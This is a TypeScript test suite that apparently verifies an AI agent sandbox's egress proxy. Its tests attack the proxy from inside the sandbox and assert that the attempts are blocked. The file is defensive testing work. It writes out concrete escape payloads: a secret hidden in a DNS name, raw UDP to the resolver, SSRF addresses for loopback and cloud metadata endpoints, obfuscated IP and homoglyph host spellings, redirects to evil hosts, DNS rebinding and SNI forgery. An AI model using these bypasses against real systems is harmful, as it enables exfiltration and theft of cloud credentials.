/**
 * The one way out of a real sandbox, beside a name server that lies: each test is an attack by commands that the agent
 * runs, or says what works beside it. Secrets on the way are in suites/secrets.ts.
 */
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, rmdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, test } from 'node:test';
import { verify } from '../../../packages/host/src/egress/audit/chain.ts';
import { until } from '../../../packages/host/test/until.ts';
import { type BesideLies, CURL, FIRST, HOST, openBesideLies, SECOND } from '../house/beside-lies.ts';
import { houseFor } from '../house/house.ts';
import { lyingDnsMissing } from '../house/lying-dns.ts';
import { missing, type SandboxKind } from '../house/machine.ts';
import { sharedWorld } from '../house/shared-world.ts';

const BODY = 'canary-body-5551234';

/** What a name must not lead to, alone or among others. */
const LIES: readonly (readonly string[])[] = [
  ['127.0.0.1'],
  ['10.0.0.1'],
  ['192.168.1.1'],
  ['100.100.100.200'],
  ['169.254.169.254'],
  ['0.0.0.0'],
  ['::1'],
  ['::ffff:127.0.0.1'],
  ['fd00:ec2::254'],
  ['64:ff9b::7f00:1'],
  ['93.184.215.14', '127.0.0.1'],
  ['127.0.0.1', '93.184.215.14'],
];
const lie = (n: number) => `lie-${n}.bellhop-test.example`;

export function wayOutSuite(sandbox: SandboxKind): void {
  const skip = missing[sandbox] || lyingDnsMissing;

  describe(`the way out of a sandbox, ${sandbox}`, { skip }, () => {
    const opened = sharedWorld((t) => openBesideLies(t, sandbox));
    const within = (body: (world: BesideLies) => Promise<void>) => async () => {
      const world = await opened();
      await world.startAnew();
      await body(world);
    };

    test(
      'promise 6: the pair: a host is reached by its name while its owner allows it, and then no more',
      within(async ({ bellhop, run, reached, to }) => {
        await bellhop(['hosts', 'allow', to, '--private']);
        assert.match((await run('main', `${CURL} https://${to}/pair`))[0] ?? '', /pong 200/);
        await bellhop(['hosts', 'remove', to]);
        assert.match((await run('main', `${CURL} https://${to}/gone`))[0] ?? '', / 403/);
        assert.deepEqual(urls(reached), ['/pair']);
      }),
    );

    test(
      'promises 7 and 9: attack: without a rule no host is reached, and no name is told to anybody',
      within(async ({ run, dns, port, reached, to }) => {
        const [named, secret, direct, udp, looked] = await run(
          'main',
          `${CURL} https://${to}/`,
          `${CURL} https://my-secret-is-hunter2.bellhop-test.example/`,
          `curl -sk --noproxy '*' --max-time 5 https://${FIRST}:${port}/; echo code $?`,
          `/bellhop/node -e '
            const socket = require("dgram").createSocket("udp4");
            socket.on("error", (error) => { console.log(error.code); process.exit(); });
            socket.send(Buffer.from("0001010000010000000000000673656372657400", "hex"), 53, "${dns.address}");
            setTimeout(() => { console.log("nothing came"); process.exit(); }, 300);'`,
          'getent hosts hunter3.bellhop-test.example || echo no name',
        );
        assert.match(named ?? '', / 403/);
        assert.match(secret ?? '', / 403/);
        assert.match(direct ?? '', /code 7/);
        assert.match(udp ?? '', /ENETUNREACH|EPERM|EACCES|nothing came/);
        assert.match(looked ?? '', /no name/);
        assert.deepEqual([dns.asked, reached], [[], []]);
      }),
    );

    test(
      'promise 8: attack: the same host by other spellings, and others that look like it',
      within(async ({ bellhop, connect, dns, port, reached, to }) => {
        await bellhop(['hosts', 'allow', to, '--private']);
        const targets = lookAlikes(port);
        const said = await connect('main', targets);
        assert.equal(said.length, targets.length);
        for (const line of said) assert.match(line, /^(4\d\d|cut) /, line);
        assert.deepEqual([dns.asked, reached], [[], []]);
        assert.deepEqual(await connect('main', [to]), [`200 ${to}`]);
      }),
    );

    test(
      'promise 8: attack: a redirect to a host that is not allowed, or leads inside',
      within(async ({ bellhop, run, dns, port, reached, to }) => {
        dns.answers.set(lie(0), () => LIES[0] ?? []);
        await bellhop(['hosts', 'allow', to, '--private']);
        await bellhop(['hosts', 'allow', `${lie(0)}:${port}`]);
        const said = await run(
          'main',
          ...['evil.bellhop-test.example', lie(0)].map(
            (host) => `${CURL} -L https://${to}/moved?https://${host}:${port}/`,
          ),
        );
        for (const words of said) assert.match(words, / 403/);
        assert.deepEqual(urls(reached), ['/moved', '/moved']);
        assert.ok(!dns.asked.includes('evil.bellhop-test.example'));
      }),
    );

    test(
      'promise 9: attack: names that lead into this machine, its networks, or to the keys of a cloud',
      within(async ({ bellhop, connect, dns, port, reached }) => {
        const targets = LIES.map((_, n) => `${lie(n)}:${port}`);
        for (const [n, addresses] of LIES.entries()) {
          dns.answers.set(lie(n), () => addresses);
          await bellhop(['hosts', 'allow', `${lie(n)}:${port}`]);
        }
        const said = await connect('main', targets);
        assert.deepEqual(
          said,
          targets.map((target) => `403 ${target}`),
        );
        // What is allowed as private may be this machine, but never where a cloud keeps its keys.
        const cloud = `${lie(4)}:${port}`;
        await bellhop(['hosts', 'allow', cloud, '--private']);
        assert.deepEqual(await connect('main', [cloud]), [`403 ${cloud}`]);
        assert.deepEqual(reached, []);
      }),
    );

    test(
      'promise 9: attack: a name that leads elsewhere a moment later: the judged address is gone to',
      within(async ({ bellhop, run, dns, port, reached }) => {
        const name = 'flip.bellhop-test.example';
        const begun = dns.asked.length;
        dns.answers.set(name, (nth) => [(nth - begun) % 2 === 1 ? FIRST : SECOND]);
        await bellhop(['hosts', 'allow', `${name}:${port}`, '--private']);
        await run('main', ...[1, 2, 3, 4].map((n) => `${CURL} https://${name}:${port}/${n}`));
        assert.deepEqual(
          reached.map(({ address, url }) => `${address}${url}`),
          [`${FIRST}/1`, `${SECOND}/2`, `${FIRST}/3`, `${SECOND}/4`],
        );
        assert.deepEqual(dns.asked, Array(4).fill(name));
      }),
    );

    test(
      'promise 10: attack: a hello that names another host than its CONNECT, or none; plain HTTP; words that are no TLS',
      within(async ({ bellhop, run, hello, reached, to }) => {
        await bellhop(['hosts', 'allow', to, '--private']);
        for (const name of ['evil.example', `x.${HOST}`, `${HOST}.`, 'localhost', ''])
          assert.equal(await hello('main', to, name), 'cut', name);
        assert.equal(await hello('main', to, HOST.toUpperCase()), 'secure');
        const [plain, forged, noTls] = await run(
          'main',
          `${CURL} http://${to}/plain`,
          `${CURL} --connect-to evil.example:443:${to} https://evil.example/forged`,
          `curl -s --proxytunnel --noproxy '' --max-time 5 http://${to}/no-tls; echo code $?`,
        );
        assert.match(plain ?? '', /not allowed for this agent by plain HTTP/);
        assert.match(forged ?? '', /^ 200$/);
        assert.match(noTls ?? '', /^code (52|56)$/);
        assert.deepEqual(reached, []);
      }),
    );

    test(
      'promise 24: attack: nothing arrives before its row is in the audit; no body is in it, and the chain is whole',
      within(async ({ bellhop, run, reached, to, audit }) => {
        await bellhop(['hosts', 'allow', to, '--private']);
        const rowsOf = (target: string) => audit().filter((row) => row.includes(target)).length;
        const first = rowsOf(to);
        await run('main', ...[1, 2].map((n) => `${CURL} -d ${BODY} https://${to}/posted-${n}`));
        assert.deepEqual(
          reached.map(({ audited }) => audited),
          [first + 1, first + 2],
        );
        // In a session of its own: one that is refused a lot has not a row for each time.
        await run('refused', `${CURL} https://refused.bellhop-test.example/`);
        assert.equal(rowsOf('refused.bellhop-test.example'), 1);
        assert.ok(!audit().join().includes(BODY));
        assert.equal((await verify(Readable.from(audit()), null)).fault, null);
      }),
    );

    test(
      "promises 13 and 28: attack: another session's socket, the vault, the audit and the store are not there",
      within(async ({ house, run }) => {
        // What the system's packages brought is no part of it, and most of what there is.
        const find = 'find / \\( -path /proc -o -path /usr \\) -prune -o';
        const sockets = `${find} -type s -print 2>/dev/null | sort`;
        const kept = readdirSync(join(house.data, 'egress'));
        assert.ok(kept.includes('ca.json') && kept.includes('audit.jsonl'), kept.join());
        const names = [...kept, 'bellhop.db', 'bellhop.sock'].map((name) => `-name "${name}"`);
        const files = `${find} \\( ${names.join(' -o ')} \\) -print 2>/dev/null; echo end`;
        const [here = '', found] = await run('main', sockets, files);
        const [there] = await run('other', sockets);
        // Each sees its own two, by the same names.
        assert.equal(here, there);
        assert.deepEqual(
          here
            .split('\n')
            .map((path) => path.split('/').at(-1))
            .sort(),
          ['egress.sock', 'host.sock'],
        );
        assert.equal(found, 'end');
        for (const name of kept)
          assert.equal(statSync(join(house.data, 'egress', name)).mode & 0o077, 0, name);
      }),
    );
  });

  test(`promise 14: attack: ${sandbox}: while the way out cannot be opened no sandbox starts; then one does`, {
    skip: missing[sandbox],
  }, async (t) => {
    const house = houseFor(t, sandbox);
    house.writeSettings({ retryBaseMs: 100 });
    // A folder where the audit should be: nothing can be written there, so nothing goes out.
    const audit = join(house.data, 'egress', 'audit.jsonl');
    mkdirSync(audit, { recursive: true, mode: 0o700 });
    await house.up();
    assert.equal((await house.api.send({ id: 'm1', text: 'run id' })).status, 202);
    await until('it waits, and says why', async () =>
      /way out|egress/.test(JSON.stringify((await house.api.message('m1')).body)),
    );
    assert.deepEqual(house.sandboxes(), []);
    rmdirSync(audit);
    await until('it is answered', async () => (await house.api.message('m1')).body.settled);
    const said = house.records.conversation('main').map(({ text }) => text);
    assert.equal(said.filter((text) => /uid=/.test(text ?? '')).length, 1);
  });
}

function urls(reached: BesideLies['reached']): string[] {
  return reached.map(({ url }) => url.split('?')[0] ?? '');
}

function lookAlikes(port: number): string[] {
  const hosts = [
    ...[
      '*',
      '*.bellhop-test.example',
      'bellhop-test.example',
      `x${HOST}`,
      `x.${HOST}`,
      `${HOST}.evil.example`,
    ],
    ...[`${HOST}.`, `${HOST}..`, `.${HOST}`, `${HOST}/`, `evil@${HOST}`, `${HOST}@evil.example`],
    ...[`${HOST}#.evil.example`, `${HOST}%2eevil.example`, 'good%2ebellhop-test.example'],
    ...['good\u3002bellhop-test.example', 'g\u043e\u043ed.bellhop-test.example'],
    ...['localhost', FIRST, '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '0'],
    ...['[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]'],
  ];
  const ports = ['', ':', ':0', `:${port + 1}`, `:${port}:1`];
  return [...hosts.map((host) => `${host}:${port}`), ...ports.map((end) => `${HOST}${end}`), `:${port}`];
}
